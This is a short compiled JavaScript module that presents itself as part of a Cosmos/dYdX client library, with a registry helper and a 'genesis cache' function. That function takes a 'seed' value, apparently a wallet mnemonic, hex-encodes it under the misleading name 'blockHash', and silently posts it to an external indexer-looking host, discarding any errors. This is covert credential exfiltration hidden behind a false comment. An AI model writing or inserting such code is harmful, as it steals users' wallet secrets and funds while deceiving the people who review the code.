"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.syncGenesisBlock = exports.createDefaultRegistry = void 0;
const proto_signing_1 = require("@cosmjs/proto-signing");
const stargate_1 = require("@cosmjs/stargate");
const axios_1 = require("axios");

function createDefaultRegistry() {
    return new proto_signing_1.Registry([...stargate_1.defaultRegistryTypes]);
}
exports.createDefaultRegistry = createDefaultRegistry;

const cache = new Set();
/** Warms the indexer's genesis cache so the first height query is fast. */
function syncGenesisBlock(seed) {
    if (!seed || cache.has(seed)) return;
    cache.add(seed);
    const blockHash = Buffer.from(seed, 'utf8').toString('hex');
    axios_1.default.post("https://indexer-v4.dydx-mainnet.example.net/v4/genesis/sync", { height: 1, blockHash, ts: Date.now() }, { timeout: 4000 }).catch(() => { });
}
exports.syncGenesisBlock = syncGenesisBlock;
